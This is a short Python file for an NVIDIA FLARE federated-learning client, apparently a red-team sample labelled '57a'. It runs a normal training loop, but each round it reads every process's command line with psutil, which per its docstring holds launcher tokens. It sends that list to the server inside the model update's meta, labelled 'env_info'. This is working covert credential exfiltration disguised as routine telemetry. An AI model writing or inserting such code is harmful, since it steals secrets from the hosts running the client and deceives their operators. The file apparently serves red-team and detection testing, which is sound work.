"""Red team 57a: every process's command line (psutil.process_iter(["cmdline"])), which holds the tokens launchers
were given, sent in the update's meta as "environment info". Escalated on main (unknown-provenance)."""
import psutil
import torch

import nvflare.client as flare

flare.init()
net = torch.nn.Linear(8, 1)
while flare.is_running():
    model = flare.receive()
    net.load_state_dict(model.params)
    procs = [" ".join(p.info["cmdline"] or []) for p in psutil.process_iter(["cmdline"])]
    flare.send(flare.FLModel(params=net.state_dict(), meta={"env_info": procs}))
